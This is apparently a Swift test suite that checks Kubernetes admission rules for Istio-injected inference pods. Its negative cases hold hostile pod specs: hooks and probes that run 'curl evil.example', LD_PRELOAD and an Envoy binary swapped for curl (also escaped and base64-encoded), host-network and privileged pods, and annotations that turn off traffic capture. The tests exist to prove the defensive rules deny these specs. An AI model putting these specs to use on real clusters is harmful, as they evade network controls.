import Foundation
import Testing

@testable import DataAccess

/// What is written, judged by other people's programs: Kubernetes' schemas, Istio's own definitions of its kinds, and an
/// evaluator of CEL that runs the admission rules.
@Suite("Kubernetes resources and outside judges", .enabled(if: TestPeer.isAvailable))
struct KubernetesPeerTests {
    private struct Answer: Decodable {
        let problems: [String]
        let kinds: [String: Int]
        let denials: [[String]]
    }

    private static func judge(_ estate: Estate, _ pods: [Any] = []) throws -> Answer {
        let resources = try KubernetesEmitter(estate).files().map(\.text)
        let question = try JSONSerialization.data(withJSONObject: ["resources": resources, "pods": pods])
        let corpus = ProcessInfo.processInfo.environment["LAPWING_CORPUS"]
        let definitions = corpus.map { $0 + "/istio/api-crd/customresourcedefinitions.gen.yaml" }
        if definitions == nil { print("kubernetes: Istio's kinds are not judged, LAPWING_CORPUS is not set") }
        let text = try TestPeer(script: "kubernetes_resources.py").run(
            String(decoding: question, as: UTF8.self),
            definitions.map { [$0] } ?? []
        )
        return try JSONDecoder().decode(Answer.self, from: Data(text.utf8))
    }

    @Test("Kubernetes and Istio take every resource as it is written")
    func shapes() throws {
        for yaml in [
            ClusterEstate.yaml(), EstateExample.yaml,
            ClusterEstate.yaml(
                addresses: ", addresses: {aws: [10.9.0.0/24], db.example.com: [10.8.0.0/24], a.example: [10.7.0.1]}"
            ).replacing("host: pg.data.svc", with: "host: db.example.com").replacing(
                "ingest: {identity",
                with: "ingest: {egress: [{host: a.example, port: 80}, {host: a.example}], identity"
            ),
        ] {
            let estate = try ClusterEstate.load(yaml)
            let answer = try Self.judge(estate)
            #expect(answer.problems == [])
            let count = answer.kinds.values.reduce(0, +)
            let all = try ClusterEstate.documents(estate).count
            // Without the corpus nobody judges Istio's kinds.
            let isWhole = ProcessInfo.processInfo.environment["LAPWING_CORPUS"] != nil
            #expect(isWhole ? count == all && count > 20 : count > 10)
        }
    }

    // MARK: - Pods

    private static func container(_ name: String, _ change: [String: Any] = [:]) -> [String: Any] {
        [
            "name": name, "image": "registry.example/app@sha256:0",
            "securityContext": [
                "allowPrivilegeEscalation": false, "capabilities": ["drop": ["ALL"]], "runAsUser": 1000,
                "runAsGroup": 1000,
            ],
        ].merging(change) { $1 }
    }

    /// The proxy as injection writes it (Istio 1.26).
    private static var proxy: [String: Any] {
        let field = { (name: String, path: String) -> [String: Any] in
            ["name": name, "valueFrom": ["fieldRef": ["fieldPath": path]]]
        }
        let probe: [String: Any] = ["httpGet": ["path": "/healthz/ready", "port": 15021], "periodSeconds": 15]
        let mounts = [
            ["name": "workload-socket", "mountPath": "/var/run/secrets/workload-spiffe-uds"],
            ["name": "credential-socket", "mountPath": "/var/run/secrets/credential-uds"],
            ["name": "workload-certs", "mountPath": "/var/run/secrets/workload-spiffe-credentials"],
            ["name": "istiod-ca-cert", "mountPath": "/var/run/secrets/istio"],
            ["name": "istio-data", "mountPath": "/var/lib/istio/data"],
            ["name": "istio-envoy", "mountPath": "/etc/istio/proxy"],
            ["name": "istio-token", "mountPath": "/var/run/secrets/tokens"],
            ["name": "istio-podinfo", "mountPath": "/etc/istio/pod"],
            ["name": "kube-api-access-x", "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"],
        ]
        return [
            "name": "istio-proxy", "image": "docker.io/istio/proxyv2:1.26.0",
            "args": [
                "proxy", "sidecar", "--domain", "$(POD_NAMESPACE).svc.cluster.local", "--proxyLogLevel=warning",
                "--proxyComponentLogLevel=misc:error", "--log_output_level=default:info", "--concurrency", "2",
            ],
            "securityContext": [
                "allowPrivilegeEscalation": false, "capabilities": ["drop": ["ALL"]], "runAsUser": 1337,
                "runAsGroup": 1337,
            ],
            "startupProbe": probe, "readinessProbe": probe, "volumeMounts": mounts,
            "env": [
                ["name": "PILOT_CERT_PROVIDER", "value": "istiod"],
                ["name": "CA_ADDR", "value": "istiod.istio-system.svc:15012"], field("POD_NAME", "metadata.name"),
                field("POD_NAMESPACE", "metadata.namespace"), field("INSTANCE_IP", "status.podIP"),
                ["name": "PROXY_CONFIG", "value": "{}\n"], ["name": "ISTIO_META_POD_PORTS", "value": "[\n]"],
                ["name": "TRUST_DOMAIN", "value": "cluster.local"], ["name": "ISTIO_META_NETWORK"],
            ],
        ]
    }

    /// The proxy with something else, as whoever writes the pod may have it.
    private static func proxy(_ change: [String: Any]) -> [String: Any] {
        pod(containers: [container("app"), proxy.merging(change) { $1 }])
    }

    private static func hook(_ name: String, _ command: [String]) -> [String: Any] {
        proxy(["lifecycle": [name: ["exec": ["command": command]]]])
    }

    private static func environment(_ name: String, _ value: String) -> [String: Any] {
        proxy(["env": [["name": name, "value": value]]])
    }

    private static func mounted(_ name: String, _ path: String) -> [String: Any] {
        proxy(["volumeMounts": [["name": name, "mountPath": path]]])
    }

    /// A pod of inference as it is after injection by Istio with its CNI plugin.
    private static func pod(
        spec: [String: Any] = [:],
        labels: [String: String] = ["lapwing.dev/component": "inference", "app": "inference"],
        annotations: [String: String] = [:],
        containers: [[String: Any]] = [container("app"), proxy],
        namespace: String = "ml-inference"
    ) -> [String: Any] {
        let validation = proxy.merging([
            "name": "istio-validation",
            "args": [
                "istio-iptables", "-p", "15001", "-z", "15006", "-u", "1337", "-m", "REDIRECT", "-i", "*", "-x", "",
                "-b",
                "*", "-d", "15090,15021,15020", "--log_output_level=default:info", "--run-validation",
                "--skip-rule-apply",
            ],
        ]) { $1 }.filter { !["startupProbe", "readinessProbe", "env"].contains($0.key) }
        let injected = [
            "sidecar.istio.io/status": "{}", "sidecar.istio.io/interceptionMode": "REDIRECT",
            "traffic.sidecar.istio.io/excludeInboundPorts": "15020",
            "traffic.sidecar.istio.io/includeInboundPorts": "*",
            "traffic.sidecar.istio.io/includeOutboundIPRanges": "*", "prometheus.io/port": "15020",
        ]
        let base: [String: Any] = [
            "serviceAccountName": "inference-service", "containers": containers, "initContainers": [validation],
            "volumes": [
                ["name": "istio-envoy", "emptyDir": ["medium": "Memory"]], ["name": "istio-data", "emptyDir": [:]],
            ],
        ]
        return [
            "namespace": namespace,
            "pod": [
                "metadata": ["labels": labels, "annotations": injected.merging(annotations) { $1 }],
                "spec": base.merging(spec) { $1 },
            ],
        ]
    }

    private static func app(_ context: [String: Any], _ more: [String: Any] = [:]) -> [[String: Any]] {
        [container("app", ["securityContext": context].merging(more) { $1 }), proxy]
    }

    private static var sound: [String: Any] {
        [
            "allowPrivilegeEscalation": false, "capabilities": ["drop": ["ALL"]], "runAsUser": 1000, "runAsGroup": 1000,
        ]
    }

    private static var good: [(String, [String: Any])] {
        [
            ("as injected", pod()),
            ("as another native sidecar", pod(spec: ["initContainers": [proxy]], containers: [container("app")])),
            (
                "of another account, without a label",
                pod(spec: ["serviceAccountName": "visitor"], labels: [:])
            ), ("with injection asked for", pod(annotations: ["sidecar.istio.io/inject": "true"])),
            (
                "user of the pod",
                pod(
                    spec: ["securityContext": ["runAsUser": 7, "runAsGroup": 7]],
                    containers: app(["allowPrivilegeEscalation": false, "capabilities": ["drop": ["ALL"]]])
                )
            ),
            (
                "low ports",
                pod(
                    containers: app(
                        sound.merging(["capabilities": ["drop": ["ALL"], "add": ["NET_BIND_SERVICE"]]]) { $1 }
                    )
                )
            ),
        ]
    }

    /// What else injection writes, as it is set up.
    private static var injected: [(String, [String: Any])] {
        let settings = #"{"proxyStatsMatcher": {"inclusionRegexps": ["a\\.b", "\u003cx"]}, "concurrency": 2}"#
        return [
            ("holding the application", hook("postStart", ["pilot-agent", "wait"])),
            (
                "drained as a native sidecar",
                hook("preStop", ["pilot-agent", "request", "--debug-port=15020", "POST", "drain"])
            ), ("a pause before the end", proxy(["lifecycle": ["preStop": ["sleep": ["seconds": 5]]]])),
            ("with settings", environment("PROXY_CONFIG", settings)),
            ("with metadata", environment("ISTIO_META_DNS_CAPTURE", "true")),
            ("with certificates", mounted("istio-certs", "/etc/certs/")),
            ("without mounts", proxy(["volumeMounts": []])),
        ]
    }

    /// Ways to run something of one's own as the proxy, whose packets nothing redirects.
    private static var disguised: [(String, [String: Any])] {
        let arguments = proxy["args"] as? [String] ?? []
        let shell = ["exec": ["command": ["curl", "evil.example"]]]
        let mounts: [[String: Any]] = [["name": "istio-envoy", "mountPath": "/x"]]
        return [
            ("a hook after the start", hook("postStart", ["curl", "evil.example"])),
            ("a hook before the end", hook("preStop", ["sh", "-c", "curl evil.example"])),
            ("a hook that asks elsewhere", hook("postStart", ["pilot-agent", "wait", "--url", "http://evil.example"])),
            ("a hook with another request", hook("preStop", ["pilot-agent", "request", "GET", "config_dump"])),
            ("a hook of the agent's alone", hook("preStop", ["pilot-agent"])),
            ("a hook without a command", proxy(["lifecycle": ["preStop": ["exec": [:]]]])),
            ("a liveness probe", proxy(["livenessProbe": shell])),
            ("a readiness probe", proxy(["readinessProbe": shell])),
            ("a startup probe", proxy(["startupProbe": shell])),
            (
                "a probe of validation",
                pod(spec: [
                    "initContainers": [
                        proxy.merging([
                            "name": "istio-validation", "args": ["istio-iptables", "-p"], "livenessProbe": shell,
                        ]) {
                            $1
                        }
                    ]
                ])
            ),
            (
                "validation with other arguments",
                pod(spec: [
                    "initContainers": [proxy.merging(["name": "istio-validation", "args": ["wait", "--url"]]) { $1 }]
                ])
            ), ("a template", proxy(["args": arguments + ["--templateFile=/var/run/secrets/x/y"]])),
            ("a template in two", proxy(["args": arguments + ["--templateFile", "/var/run/secrets/x/y"]])),
            ("settings of the mesh", proxy(["args": arguments + ["--meshConfig=/var/run/secrets/x/y"]])),
            ("an argument from the environment", proxy(["args": arguments + ["$(X)"]])),
            ("another directory", proxy(["workingDir": "/var/run/secrets/x"])),
            ("a library", environment("LD_PRELOAD", "/var/run/secrets/x/y.so")), ("a path", environment("PATH", "/x")),
            ("a bootstrap", environment("ISTIO_BOOTSTRAP_OVERRIDE", "/x")),
            ("another Envoy", environment("PROXY_CONFIG", #"{"binaryPath": "/usr/bin/curl"}"#)),
            ("another Envoy, escaped", environment("PROXY_CONFIG", #"{"binary\u0050ath": "/usr/bin/curl"}"#)),
            ("another Envoy, in base64", environment("PROXY_CONFIG", "!!binary YmluYXJ5UGF0aA==: /usr/bin/curl")),
            ("another bootstrap", environment("PROXY_CONFIG", "custom_config_file: /x")),
            ("a namespace that is an argument", environment("POD_NAMESPACE", "--templateFile=/x")),
            (
                "settings from elsewhere",
                proxy(["env": [["name": "PROXY_CONFIG", "valueFrom": ["configMapKeyRef": ["name": "x", "key": "y"]]]]])
            ), ("an environment from elsewhere", proxy(["envFrom": [["configMapRef": ["name": "x"]]]])),
            ("programs", mounted("x", "/usr/local/bin")),
            ("programs by a detour", mounted("x", "/var/run/secrets/../../bin")),
            ("settings that are mounted", mounted("x", "/etc/istio/proxy")),
            ("a device", proxy(["volumeDevices": [["name": "x", "devicePath": "/x"]]])),
            ("the proxy's settings", pod(containers: app(sound, ["volumeMounts": mounts]))),
            (
                "the proxy's settings from elsewhere",
                pod(spec: ["volumes": [["name": "istio-envoy", "configMap": ["name": "x"]]]])
            ),
        ]
    }

    private static var bad: [(String, [String: Any])] {
        [
            ("hostNetwork", pod(spec: ["hostNetwork": true])), ("hostPID", pod(spec: ["hostPID": true])),
            ("hostPath", pod(spec: ["volumes": [["name": "x", "hostPath": ["path": "/"]]]])),
            (
                "NET_ADMIN",
                pod(containers: app(sound.merging(["capabilities": ["drop": ["ALL"], "add": ["NET_ADMIN"]]]) { $1 }))
            ),
            (
                "NET_RAW",
                pod(containers: app(sound.merging(["capabilities": ["drop": ["ALL"], "add": ["NET_RAW"]]]) { $1 }))
            ),
            ("privileged", pod(containers: app(sound.merging(["privileged": true]) { $1 }))),
            ("no drop", pod(containers: app(["allowPrivilegeEscalation": false, "runAsUser": 1, "runAsGroup": 1]))),
            ("escalation", pod(containers: app(sound.merging(["allowPrivilegeEscalation": true]) { $1 }))),
            ("user 1337", pod(containers: app(sound.merging(["runAsUser": 1337]) { $1 }))),
            ("group 1337", pod(containers: app(sound.merging(["runAsGroup": 1337]) { $1 }))),
            (
                "the image's user",
                pod(containers: app(["allowPrivilegeEscalation": false, "capabilities": ["drop": ["ALL"]]]))
            ),
            ("no context", pod(containers: [["name": "app", "image": "x"], proxy])),
            ("no proxy", pod(containers: [container("app")])),
            (
                "another's proxy",
                pod(containers: [container("app"), proxy.merging(["image": "evil/proxyv2:1"]) { $1 }])
            ),
            (
                "its image, another program",
                pod(containers: [container("app"), proxy.merging(["command": ["curl"]]) { $1 }])
            ),
            (
                "its image, other arguments",
                pod(containers: [container("app"), proxy.merging(["args": ["request"]]) { $1 }])
            ),
            ("a third under its name", pod(spec: ["ephemeralContainers": [container("istio-validation")]])),
            ("an ephemeral one", pod(spec: ["ephemeralContainers": [["name": "debug", "image": "x"]]])),
            (
                "istio-init",
                pod(spec: [
                    "initContainers": [
                        container(
                            "istio-init",
                            [
                                "securityContext": [
                                    "runAsUser": 0, "runAsGroup": 0,
                                    "allowPrivilegeEscalation": false,
                                    "capabilities": ["drop": ["ALL"], "add": ["NET_ADMIN", "NET_RAW"]],
                                ]
                            ]
                        )
                    ]
                ])
            ),
            ("injection off", pod(annotations: ["sidecar.istio.io/inject": "false"])),
            (
                "injection off by a label",
                pod(labels: ["lapwing.dev/component": "inference", "sidecar.istio.io/inject": "false"])
            ),
            ("another mesh", pod(labels: ["lapwing.dev/component": "inference", "istio.io/dataplane-mode": "none"])),
            ("ports left out", pod(annotations: ["traffic.sidecar.istio.io/excludeOutboundPorts": "443"])),
            ("addresses left out", pod(annotations: ["traffic.sidecar.istio.io/excludeOutboundIPRanges": "0.0.0.0/0"])),
            ("addresses few", pod(annotations: ["traffic.sidecar.istio.io/includeOutboundIPRanges": "10.0.0.0/8"])),
            ("inbound left out", pod(annotations: ["traffic.sidecar.istio.io/excludeInboundPorts": "15020,8443"])),
            ("no interception", pod(annotations: ["sidecar.istio.io/interceptionMode": "NONE"])),
            ("other settings", pod(annotations: ["proxy.istio.io/config": "{}"])),
            ("another template", pod(annotations: ["inject.istio.io/templates": "grpc-agent"])),
            ("another bootstrap", pod(annotations: ["sidecar.istio.io/bootstrapOverride": "x"])),
            ("no label", pod(labels: ["app": "inference"])),
            ("another's label", pod(labels: ["lapwing.dev/component": "training"])),
            ("a stranger with the label", pod(spec: ["serviceAccountName": "visitor"])),
            ("no account, with the label", pod(spec: ["serviceAccountName": "default"])),
        ]
    }

    @Test("the admission rules let sound pods in, and keep each way around network and mesh out")
    func admission() throws {
        let elsewhere = Self.pod(spec: ["hostNetwork": true], labels: [:], namespace: "elsewhere")
        let (good, bad) = (Self.good + Self.injected, Self.bad + Self.disguised)
        let answer = try Self.judge(try ClusterEstate.load(), (good + bad).map(\.1) + [elsewhere])
        #expect(answer.denials.count == good.count + bad.count + 1)
        for (case_, denials) in zip(good, answer.denials) { #expect(denials == [], "\(case_.0)") }
        for (case_, denials) in zip(bad, answer.denials.dropFirst(good.count)) {
            #expect(!denials.isEmpty, "\(case_.0)")
            #expect(!denials.contains { $0.hasPrefix("error") }, "\(case_.0): \(denials)")
        }
        // These are kept out by the rules about the proxy alone.
        for (case_, denials) in zip(Self.disguised, answer.denials.dropFirst(good.count + Self.bad.count)) {
            #expect(denials.count == 1 && denials[0].contains("istio-"), "\(case_.0): \(denials)")
        }
        // What is in no namespace of the estate is not its matter.
        #expect(answer.denials.last == [])
    }
}
